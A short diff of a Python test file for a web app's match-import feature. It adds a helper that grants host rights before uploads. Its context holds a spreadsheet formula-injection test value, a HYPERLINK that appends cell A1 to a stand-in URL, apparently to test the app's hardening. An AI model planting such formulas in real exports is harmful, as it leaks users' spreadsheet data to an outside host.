@@ -12,7 +12,7 @@ from sqlalchemy import func, select
 from companion import create_app, hardening
 from companion.extensions import db
 from companion.models import Match
-from tests.conftest import csrf_token
+from tests.conftest import csrf_token, grant_host_rights
 
 HYPERLINK = '=HYPERLINK("http://e.x/?"&A1,"ok")'
 HTMX = {"HX-Request": "true"}
@@ -25,7 +25,11 @@ def topic_file(players: list[str], uid: str = "t1") -> dict:
 
 
 def upload(client, content: bytes, **headers):
-    """POST a match file to the import, with the page's CSRF token."""
+    """POST a match file to the import from the host's phone (imports need host rights), with the page's CSRF token."""
+    from companion.services import host
+
+    if client.get_cookie(host.HOST_COOKIE) is None:
+        grant_host_rights(client)
     token = csrf_token(client, "/history")
     return client.post(
         "/history/import",
